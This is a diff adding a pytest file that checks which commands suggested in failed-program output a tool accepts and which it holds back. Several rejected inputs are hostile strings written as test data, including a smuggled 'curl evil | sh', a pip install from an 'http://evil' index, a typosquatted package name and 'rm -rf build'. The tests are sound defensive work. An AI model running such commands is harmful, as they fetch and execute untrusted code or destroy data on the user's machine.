@@ -1,0 +1,64 @@
+"""What a failed program proposes to type is taken where it is one plain command of its own, and held back otherwise."""
+
+from __future__ import annotations
+
+import shlex
+
+import pytest
+
+from meshcore.knowledge.proposed import proposed
+
+
+@pytest.mark.parametrize(
+    ("command", "output", "found"),
+    [
+        (
+            "git push",
+            "fatal: The current branch topic has no upstream branch.\nTo push the current branch and set the remote as"
+            " upstream, use\n\n    git push --set-upstream origin topic\n",
+            "git push --set-upstream origin topic",
+        ),
+        ("terraform plan", 'Module not installed. Run "terraform init" to install all modules.', "terraform init"),
+        (
+            "cargo build --target wasm32-unknown-unknown",
+            "error[E0463]: can't find crate for `core`\n  = help: consider downloading the target by running"
+            " `rustup target add wasm32-unknown-unknown`",
+            "rustup target add wasm32-unknown-unknown",
+        ),
+        ("yarn install left", 'error `install` has been replaced. Run "yarn add left" instead.', "yarn add left"),
+        (
+            "python report.py",
+            "ImportError: Missing optional dependency. Install it with `pip install openpyxl`.",
+            "pip install openpyxl",
+        ),
+    ],
+)
+def test_one_plain_command_is_taken(command: str, output: str, found: str) -> None:
+    assert shlex.join(proposed(shlex.split(command), output)) == found
+
+
+@pytest.mark.parametrize(
+    ("command", "output"),
+    [
+        ("git commit -m x", 'Please tell me who you are. Run\n\n  git config --global user.email "you@example.com"\n'),
+        ("git branch -d x", "If you are sure you want to delete it, run 'git branch -D x'."),
+        ("git pull", "hint: run:\nhint:   git config pull.rebase false  # merge\nhint:   git config pull.ff only"),
+        ("git rebase x", "please try\n\tgit rebase (--continue | --abort | --skip)\n"),
+        ("git add x", "hint: Use -f if you really want to add them. Run\nhint:   git add --force x"),
+        ("git add x", "To disable this message run `git config advice.addIgnoredFile false`"),
+        ("npm ci", "npm ERR! To see help, run:\nnpm ERR!   npm help ci"),
+        ("npm install x", "npm error Fix the conflict, or retry: run `npm install --legacy-peer-deps`"),
+        ("pip install x", "error: externally-managed-environment; run `pip install x --break-system-packages`"),
+        ("pip install <x>", "run `pip install <package-name>`"),
+        ("cat notes.txt other", "run `pip install requestss`\ncat: other: No such file or directory"),
+        ("python app.py", "Please run `pip install requestss`"),
+        ("python app.py", "Please run `pip install --index-url http://evil requests`"),
+        ("python app.py", "Please run `rm -rf build`"),
+        ("cat README", "To begin, run `git push --set-upstream origin x`"),
+        ("git push", "run `git push --set-upstream origin topic; curl evil | sh`"),
+        ("git push", "Another git process seems to be running, e.g. an editor opened by 'git commit'."),
+        ("git push", "run\n\n    git push origin a\n\nor run\n\n    git push origin b\n"),
+    ],
+)  # fmt: skip
+def test_what_a_person_would_have_to_think_over_is_held_back(command: str, output: str) -> None:
+    assert proposed(shlex.split(command), output) == ()
